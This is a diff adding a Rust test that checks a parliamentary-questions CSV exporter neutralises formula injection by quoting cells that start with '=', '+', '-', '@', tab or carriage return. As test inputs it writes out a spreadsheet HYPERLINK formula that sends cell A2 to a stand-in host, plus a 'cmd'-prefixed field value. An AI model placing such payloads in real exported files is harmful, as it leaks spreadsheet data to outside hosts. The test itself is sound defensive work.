@@ -74,3 +74,31 @@ fn help_is_available() {
     assert_eq!(run.code, 0);
     assert!(run.stdout_text().contains("answered_questions"));
 }
+
+#[test]
+fn cells_that_start_a_formula_get_a_quote() {
+    for start in ["=", "+", "-", "@", "\t", "\r"] {
+        let dir = temp_dir("csv-formula");
+        let title = format!("{start}HYPERLINK(\"https://example.invalid/\"&A2;\"x\")");
+        let text = document("2024Z90003", &title)
+            .replace("Onderwerpen recht", &format!("Onderwerpen {start}cmd"));
+        let file = write(&dir, "f.txt", text.as_bytes());
+        let run = kamervraag(&["csv", file.to_str().unwrap()], b"");
+        assert_eq!(run.code, 0, "{}", run.stderr);
+        let (_, records) = rows(&run.stdout);
+        let row = &records[0];
+        // The parser trims a tab or carriage return off the line ends; the other
+        // starts reach the cell and are quoted (the core tests cover all six).
+        if !start.trim().is_empty() {
+            assert_eq!(row[1], format!("'{title}"), "{start:?}");
+        }
+        assert_eq!(&row[4], "21");
+        assert_eq!(&row[9], "1");
+        for cell in row.iter() {
+            assert!(
+                kamervraag::export::is_inert_cell(cell),
+                "{start:?}: {cell:?}"
+            );
+        }
+    }
+}
